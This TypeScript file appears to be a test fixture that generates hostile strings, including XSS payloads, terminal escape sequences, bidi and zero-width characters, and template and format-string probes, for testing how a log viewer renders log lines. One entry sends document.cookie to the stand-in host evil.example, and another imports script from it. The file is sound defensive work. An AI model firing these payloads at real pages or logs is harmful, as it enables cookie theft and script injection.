const SCRIPTS = [
  'alert(1)',
  'fetch("//evil.example/"+document.cookie)',
  'import("//evil.example")',
  'top.location=name',
]
const TAGS = [
  'script',
  'img src=x onerror',
  'svg/onload',
  'iframe srcdoc',
  'style',
  'base href',
  'meta http-equiv=refresh',
  'a href',
]
const QUOTES = [
  "'",
  '"',
  '`',
  '">',
  "'>",
  '"/>',
  '</title>',
  '</style>',
  '</td></table>',
  '-->',
  ']]>',
  '<!--',
  '&lt;',
  '&#60;',
  '&',
]
const SIGNS = [
  '\u0000',
  '\u0007',
  '\u001b[2J',
  '\u001b]0;owned\u0007',
  '\r\n',
  '\n',
  '\t',
  '\u009b31m',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\u200b',
  '\ufeff',
  '\ud800',
  '\udfff',
]

/** Some two hundred texts that a log line may hold to harm whoever shows it. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS.flatMap((tag) => SCRIPTS.map((script) => `<${tag}=${script}>`)),
  ...TAGS.flatMap((tag) => SCRIPTS.map((script) => `"><${tag}>${script}</${tag}>`)),
  ...SCRIPTS.flatMap((script) => [
    `javascript:${script}`,
    `data:text/html,<script>${script}</script>`,
    ` onmouseover=${script} x=`,
  ]),
  ...QUOTES.flatMap((quote) => [
    quote,
    `${quote}<b>x</b>`,
    `x${quote} onclick=${SCRIPTS[0]}`,
    `${quote}${quote}${quote}`,
  ]),
  ...SIGNS.flatMap((sign) => [sign, `a${sign}b`, `${sign}<script>`, sign.repeat(40)]),
  '__proto__',
  'constructor',
  'toString',
  '${7*7}{{7*7}}<%= 7*7 %>',
  '%s%n%x',
  '日本語の授業',
  'العربية',
  '👩‍🏫'.repeat(50),
  'e\u0301'.repeat(300),
  '𝒳'.repeat(500),
  'x'.repeat(1_000_000),
  `<script>${'y'.repeat(1_000_000)}</script>`,
]

/** Those that can be there many times. */
export const SHORT_TEXTS: readonly string[] = HOSTILE_TEXTS.filter(({ length }) => length < 1000)
